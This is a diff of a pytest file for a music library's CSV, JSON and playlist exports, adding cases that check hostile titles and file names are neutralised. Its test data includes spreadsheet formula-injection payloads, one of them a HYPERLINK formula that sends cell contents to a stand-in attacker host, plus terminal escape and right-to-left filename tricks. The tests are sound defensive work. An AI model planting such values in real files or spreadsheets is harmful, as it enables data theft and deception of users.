@@ -1,4 +1,4 @@
-"""Tables and playlists for other programs, with titles and names by people who mean harm."""
+"""Tables and playlists for other programs, with hostile titles and file names."""
 
 from __future__ import annotations
 
@@ -11,7 +11,7 @@ import pytest
 
 from library.catalogue.database import Catalogue
 from library.catalogue.tables import Track, path_hash_of
-from library.collection.exports import WriteError, export, write_playlist
+from library.collection.exports import WriteError, export, guard_formula, write_playlist
 
 HOSTILE = (
     '=HYPERLINK("http://evil.example/?"&A1,"Song")',
@@ -20,6 +20,12 @@ HOSTILE = (
     "@SUM(1+9)*cmd",
     "\t=1+1",
     "\r=1+1",
+    "\n=1+1",
+    " =1+1",
+    "\u00a0+1",
+    "\ufeff=1+1",
+    "＝1+1",
+    "－1",
     '"quoted", and\nbroken',
     "\x1b[31mred\x1b]0;title\x07",
     "노래 \u202e3pm.exe",
@@ -39,15 +45,26 @@ def add(catalogue: Catalogue, *names: str, path: bytes | None = None) -> list[Tr
 
 def test_no_cell_of_a_table_is_a_formula(catalogue: Catalogue, tmp_path: Path) -> None:
     add(catalogue, *HOSTILE, "A song - with a dash")
-    assert export(catalogue, tmp_path / "library.csv") == 10
+    assert export(catalogue, tmp_path / "library.csv") == len(HOSTILE) + 1
     with (tmp_path / "library.csv").open(encoding="utf-8", newline="") as file:
         rows = list(csv.DictReader(file))
-    assert [cell for row in rows for cell in row.values() if cell[:1] in "=+-@\t\r" and cell] == []
+    cells = [cell.strip(" \u00a0\ufeff") for row in rows for cell in row.values()]
+    assert [cell for cell in cells if cell and cell[0] in "=+-@\t\r\n＝＋－＠"] == []
     assert [row["title"].removeprefix("'") for row in rows] == [*HOSTILE, "A song - with a dash"]
     assert rows[-1]["title"] == "A song - with a dash"
 
 
-def test_a_program_gets_the_words_as_they_are(catalogue: Catalogue, tmp_path: Path) -> None:
+def test_only_text_that_begins_a_formula_is_guarded() -> None:
+    assert [guard_formula(value) for value in (-1.5, "a-b", "1=1", None, "-1")] == [
+        -1.5,
+        "a-b",
+        "1=1",
+        None,
+        "'-1",
+    ]
+
+
+def test_json_contains_the_text_as_it_is(catalogue: Catalogue, tmp_path: Path) -> None:
     add(catalogue, *HOSTILE)
     export(catalogue, tmp_path / "library.json")
     rows = json.loads((tmp_path / "library.json").read_text("utf-8"))
@@ -72,7 +89,7 @@ def test_no_title_adds_a_line_to_a_playlist(catalogue: Catalogue, tmp_path: Path
         (b"/music/#1 \xff \xea\xb9\x80.mp3", b"/music/#1 \xff \xea\xb9\x80.mp3"),
     ],
 )
-def test_no_name_of_a_file_adds_one_either(
+def test_no_file_name_adds_a_line_to_a_playlist(
     catalogue: Catalogue, tmp_path: Path, path: bytes, line: bytes
 ) -> None:
     write_playlist(add(catalogue, "song", path=path), tmp_path / "out.m3u8")
@@ -80,7 +97,7 @@ def test_no_name_of_a_file_adds_one_either(
     assert lines[2:] == [line, b""]
 
 
-def test_a_file_is_there_whole_or_not_at_all(catalogue: Catalogue, tmp_path: Path) -> None:
+def test_a_file_is_written_completely_or_not_at_all(catalogue: Catalogue, tmp_path: Path) -> None:
     tracks = add(catalogue, "song")
     (tmp_path / "out.m3u8").mkdir()
     with pytest.raises(WriteError):
